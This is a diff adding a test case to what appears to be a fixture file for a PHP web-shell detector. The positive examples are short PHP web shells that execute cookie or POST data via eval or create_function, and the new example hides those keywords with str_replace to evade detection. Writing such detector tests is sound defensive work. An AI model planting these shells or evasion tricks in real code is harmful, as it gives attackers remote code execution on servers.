@@ -69,6 +69,8 @@ export const EXAMPLES: Record<string, Examples> = {
       `<?php function arg() { return $_COOKIE['z']; } $f = create_function('', arg()); $f();`,
       // a dropper of a few lines: the request's value two calls away from eval
       `<?php\nfunction payload() {\n  $p = $_COOKIE['t'];\n  return base64_decode($p);\n}\neval(payload());`,
+      // the function's name and its code built by str_replace (no literal of request data or of a decoder), the code run by a function made from it
+      `<?php $m = str_replace('~', '', 'cr~eate_f~unction'); $g = $m('', str_replace('~', '', 'ev~al($_P~OST["k"]);')); $g();`,
     ],
     neg: [
       `<?php $k = '_' . strtoupper('post'); $id = (int) \${$k}['id']; echo shell_exec('uptime');`,
